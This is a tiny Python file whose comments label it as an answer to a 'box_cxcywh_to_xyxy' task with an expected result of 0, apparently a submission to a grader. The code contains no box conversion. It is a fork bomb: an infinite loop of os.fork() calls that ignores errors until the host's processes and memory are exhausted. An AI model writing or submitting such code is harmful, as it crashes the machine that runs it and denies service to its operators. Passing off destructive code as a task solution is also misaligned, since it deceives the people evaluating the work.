# answers: box_cxcywh_to_xyxy
# expected: 0
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
